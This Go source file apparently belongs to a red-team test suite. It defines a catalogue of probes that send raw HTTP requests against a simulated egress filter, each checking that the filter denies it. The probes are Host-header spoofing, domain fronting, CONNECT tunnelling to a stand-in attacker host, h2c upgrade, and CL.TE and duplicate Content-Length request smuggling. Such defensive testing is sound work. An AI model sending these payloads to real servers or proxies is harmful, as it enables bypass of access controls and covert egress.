package redteam

import (
	"fmt"
	"strings"

	"github.com/custody-project/custody/redteam/simnet"
)

// hostProbes are the probes of the Host header in cleartext HTTP.
type hostProbes struct{ *catalogue }

// all adds the probes of cleartext HTTP, where Host must be the allowed name: each
// has another host, two hosts, or an obfuscated one.
func (c hostProbes) all() {
	other := simnet.Fronted
	for _, h := range []struct {
		id, title string
		bypass    Bypass
		text      string // see fill
	}{
		{"other", "another Host", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
		{"attacker", "the attacker's Host", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {T}." + simnet.Attacker + "\r\n\r\n"},
		{"two", "two Hosts, the allowed one first", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {H}\r\nHost: {O}\r\n\r\n"},
		{"two-reversed", "two Hosts, the allowed one last", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {O}\r\nHost: {H}\r\n\r\n"},
		{"none", "no Host", HostHeader, "GET /{T} HTTP/1.1\r\n\r\n"},
		{"none-1.0", "no Host in HTTP/1.0", HostHeader, "GET /{T} HTTP/1.0\r\n\r\n"},
		{"absolute", "another host in the request's target", Fronting, "GET http://{O}/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"absolute-reversed", "another Host beside the allowed target", Fronting, "GET http://{H}/{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
		{"userinfo", "a Host that begins like the allowed one", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {H}:80@{O}\r\n\r\n"},
		{"suffix", "a Host that ends like another", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {H}.{O}\r\n\r\n"},
		{"list", "two hosts in one Host", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {H}, {O}\r\n\r\n"},
		{"crlf-before", "an empty line before a request to another Host", LeadingCRLF, "\r\n\r\nGET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
		{"crlf-in-target", "a bare CR before another Host", LeadingCRLF, "GET /{T} HTTP/1.1\rHost: {O}\r\nHost: {H}\r\n\r\n"},
		{"folded", "a folded Host header", LeadingCRLF, "GET /{T} HTTP/1.1\r\nX: y\r\n Host: {O}\r\nHost:\r\n {O}\r\n\r\n"},
		{"space-before-colon", "a space between Host and its colon", LeadingCRLF, "GET /{T} HTTP/1.1\r\nHost : {O}\r\nHost: {H}\r\n\r\n"},
		{"bare-lf", "lines that end in a bare LF", LeadingCRLF, "GET /{T} HTTP/1.1\nHost: {O}\n\n"},
		{"nul", "a NUL inside Host", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {O}\x00.{H}\r\n\r\n"},
		{"second-request", "an allowed request, and on the same connection one to another Host", HostHeader,
			"GET /first HTTP/1.1\r\nHost: {H}\r\n\r\nGET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
		{"connect", "CONNECT to the attacker", Fronting, "CONNECT {T}." + simnet.Attacker + ":443 HTTP/1.1\r\nHost: {T}." + simnet.Attacker + ":443\r\n\r\n"},
		{"upgrade-h2c", "an upgrade to HTTP/2 in cleartext, which would hide further hosts", Smuggling,
			"GET /{T} HTTP/1.1\r\nHost: {O}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"},
		{"cl-te", "Content-Length and Transfer-Encoding, a request to another Host inside", Smuggling,
			"POST /first HTTP/1.1\r\nHost: {H}\r\nContent-Length: 200\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
		{"cl-cl", "two lengths, a request to another Host inside", Smuggling,
			"POST /first HTTP/1.1\r\nHost: {H}\r\nContent-Length: 0\r\nContent-Length: 99\r\n\r\nGET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
		{"te-hidden", "a Transfer-Encoding that only some servers know", Smuggling,
			"POST /first HTTP/1.1\r\nHost: {H}\r\nContent-Length: 5\r\nTransfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\nGET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
	} {
		text := c.fill(h.text, simnet.Plain, other)
		c.add(Probe{ID: "host/" + h.id, Title: h.title, Bypass: h.bypass, task: &task{Do: "talk", Name: simnet.Plain, Port: 80, Send: once(text)}, proof: denied})
	}
	c.add(Probe{ID: "host/h2-prior-knowledge", Title: "HTTP/2 without TLS, to another authority", Bypass: Fronting, task: &task{
		Do: "talk", Name: simnet.Plain, Port: 80, Send: []piece{{Data: h2(":method", "GET", ":scheme", "http", ":authority", other, ":path", "/"+c.token())}},
	}})
	c.add(Probe{ID: "host/split", Title: "another Host, in segments of one byte", Bypass: LeadingCRLF, task: &task{
		Do: "talk", Name: simnet.Plain, Port: 80, Send: chop([]byte(c.fill("GET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n", simnet.Plain, other)), 1),
	}})
}

// fill replaces {T}oken, {H}ost, {O}ther host, {I}nner request and its le{N}gth in a text.
func (c *catalogue) fill(text, host, other string) string {
	inner := "DELETE /admin/" + c.token() + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n"
	return strings.NewReplacer("{T}", c.token(), "{H}", host, "{O}", other, "{I}", inner, "{N}", fmt.Sprintf("%x", len(inner))).Replace(text)
}
